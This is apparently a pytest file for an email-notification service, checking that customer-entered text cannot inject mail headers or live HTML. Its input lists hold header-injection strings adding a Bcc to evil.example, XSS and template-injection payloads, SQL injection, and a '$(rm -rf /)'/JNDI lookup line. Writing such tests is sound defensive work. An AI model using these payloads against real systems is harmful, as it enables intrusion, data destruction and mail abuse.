"""Hostile text in every field that people fill in: exactly the expected headers, one recipient, no active HTML."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from functools import cache
from html.parser import HTMLParser

import pytest
from mweek_notifier.domain.difference import Change, ChangeKind
from mweek_notifier.domain.finding import Finding
from mweek_notifier.domain.fleet import Blackout, Contact
from mweek_notifier.domain.letterhead import Letterhead
from mweek_notifier.domain.notice import FindingNotice, Notice, NoticeKind
from mweek_notifier.domain.override import AppliedOverride, Rule
from mweek_notifier.rendering.header import UnsafeTextError
from mweek_notifier.rendering.mail import rendered

from tests.support.mailbox import ReadMail, read_mail
from tests.support.notifier_values import LETTERHEAD, MESSAGE_ID, MONDAY, NOW, OPS, THURSDAY, TUESDAY, notice, slot_of

BREAKING = (
    "Acme\r\nBcc: victim@evil.example",
    "Acme\nBcc: victim@evil.example",
    "Acme\rBcc: victim@evil.example",
    "Acme\r\n\r\n<script>alert(1)</script>",
    "=?utf-8?q?Acme=0ABcc:_victim@evil.example?=",
    "=?utf-8?b?QWNtZQpCY2M6IHZpY3RpbUBldmlsLmV4YW1wbGU=?=",
    "plain =?us-ascii?q?=0D=0ATo:_victim@evil.example?= text",
    "Acme\x00GmbH",
    "Acme\x0b\x0cGmbH",
    "Acme\x1b[31m",
    "Acme\x85GmbH",
    "Acme\u2028Bcc: victim@evil.example",
    "Acme\u2029GmbH",
    "\u202eHbmG emcA",
    "\u2066Acme\u2069",
    "Acme\ud800",
)
"""Texts that must not reach a header."""

HARMLESS_IF_ESCAPED = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</table><iframe src=//evil.example>",
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>click</a>",
    "<!-- ",
    "]]>",
    "&lt;script&gt;",
    "{{ 7 * 7 }}",
    "{% for x in (1).__class__.__mro__ %}x{% endfor %}",
    "{# comment #}",
    "%(name)s %s %d 100%",
    "{name} {0} {}",
    'O\'Neill & "Söhne" <GmbH>',
    "a@b.example, c@d.example",
    "Name <victim@evil.example>",
    "victim@evil.example; Acme",
    "Acme (comment) \\",
    'Müller, Jürgen "Jüü" <x@evil.example>',
    "日本電気株式会社",
    "👩‍💻 Acme",
    "Ạ́c̀m̂ẽ",
    "..",
    ".",
    "From acme",
    "-- ",
    "BEGIN:VEVENT;END:VCALENDAR",
    "http://evil.example/?a=1&b=2",
    "$(rm -rf /) `id` ${jndi:ldap://evil.example}",
    "' OR 1=1 --",
    "x" * 500,
    "wide " * 99 + "x",
)


def about(text: str) -> Notice:
    """A first notice with the text wherever a customer can put one."""
    override = AppliedOverride(Rule.BLACKOUTS, text, (Blackout(MONDAY.opens_at, THURSDAY.closes_at, text),))
    return notice(
        slot_of(TUESDAY, "acme01"),
        customer_name=text,
        contact=Contact(text, OPS.email),
        overrides=(override,),
    )


def cancelled(text: str) -> Notice:
    """A cancellation with the text as its reason."""
    change = Change(ChangeKind.WITHDRAWN, ("acme01",), TUESDAY, None, reason="cancelled")
    return notice(
        kind=NoticeKind.CANCELLED,
        customer_name=text,
        contact=Contact(text, OPS.email),
        changes=(change,),
        cancel_reason=text,
    )


def changed(text: str) -> Notice:
    """A change; its subject has the customer's name."""
    change = Change(ChangeKind.MOVED, ("acme01",), TUESDAY, THURSDAY)
    return notice(
        slot_of(THURSDAY, "acme01"),
        kind=NoticeKind.CHANGED,
        customer_name=text,
        contact=Contact(text, OPS.email),
        changes=(change,),
    )


def finding(text: str) -> Notice:
    """Findings whose sentence is the text."""
    return FindingNotice(
        plan_id="rzob/2026-W49/r1",
        revision=1,
        location="rzob",
        week="2026-W49",
        contact=OPS,
        audit_id="audit-1",
        occasion="revision",
        audited_at=NOW,
        machines=1,
        windows=1,
        findings=(Finding("quota", "", text),),
        total=1,
    )


MAKERS = (about, cancelled, changed, finding)


@cache
def mail_with(make: Callable[[str], Notice], text: str) -> ReadMail:
    """The mail of a notice with the text in it; made once for all tests that look at it."""
    return mail_of(make(text))


def mail_of(about: Notice, letterhead: Letterhead = LETTERHEAD) -> ReadMail:
    return read_mail(rendered(about, letterhead, message_id=MESSAGE_ID, dated_at=NOW).content)


@pytest.mark.parametrize("make", [about, cancelled, changed])
@pytest.mark.parametrize("text", BREAKING)
def test_text_that_could_break_a_header_is_refused(make: Callable[[str], Notice], text: str) -> None:
    with pytest.raises(UnsafeTextError, match="correct the record that it comes from"):
        mail_of(make(text))


@pytest.mark.parametrize("text", BREAKING)
def test_settings_that_could_break_a_header_are_refused(text: str) -> None:
    for letterhead in (
        Letterhead(text, "maintenance@mweek.example", "operator@mweek.example"),
        Letterhead("Maintenance", "maintenance@mweek.example", f"{text}@mweek.example"),
    ):
        with pytest.raises(UnsafeTextError):
            mail_of(notice(slot_of(TUESDAY, "acme01")), letterhead)


@pytest.mark.parametrize("text", BREAKING)
def test_a_finding_reaches_the_operator_whatever_is_in_it(text: str) -> None:
    mail, harmless = mail_of(finding(text)), mail_of(finding("Acme"))
    assert mail.message.keys() == harmless.message.keys()
    assert list(elements(mail.html)) == list(elements(harmless.html))


@pytest.mark.parametrize("make", MAKERS)
@pytest.mark.parametrize("text", HARMLESS_IF_ESCAPED)
def test_mail_has_the_headers_of_a_harmless_one(make: Callable[[str], Notice], text: str) -> None:
    mail, harmless = mail_with(make, text), mail_with(make, "Acme")
    assert mail.recipient == OPS.email
    assert mail.message.keys() == harmless.message.keys()
    assert mail.structure == harmless.structure
    assert len(mail.events) == len(harmless.events)


@pytest.mark.parametrize("make", MAKERS)
@pytest.mark.parametrize("text", HARMLESS_IF_ESCAPED)
def test_html_has_the_elements_of_a_harmless_one_and_shows_the_text(make: Callable[[str], Notice], text: str) -> None:
    mail, harmless = mail_with(make, text), mail_with(make, "Acme")
    assert list(elements(mail.html)) == list(elements(harmless.html))
    assert squeezed(text) in squeezed(" ".join(texts(mail.html)))


@pytest.mark.parametrize("make", MAKERS)
@pytest.mark.parametrize("text", HARMLESS_IF_ESCAPED)
def test_plain_text_shows_the_text_as_it_is(make: Callable[[str], Notice], text: str) -> None:
    assert squeezed(text) in squeezed(mail_with(make, text).text)


@pytest.mark.parametrize("text", [text for text in HARMLESS_IF_ESCAPED if len(text) <= 60])
def test_subject_shows_the_text_as_it_is(text: str) -> None:
    assert squeezed(text) in squeezed(mail_with(about, text).subject)


def squeezed(text: str) -> str:
    """Blanks and line breaks may be where they like."""
    return "".join(text.split())


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(attrs)))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def elements(html: str) -> Iterator[tuple[str, tuple[tuple[str, str | None], ...]]]:
    reader = _Reader()
    reader.feed(html)
    yield from reader.elements


def texts(html: str) -> Iterator[str]:
    reader = _Reader()
    reader.feed(html)
    yield from reader.texts
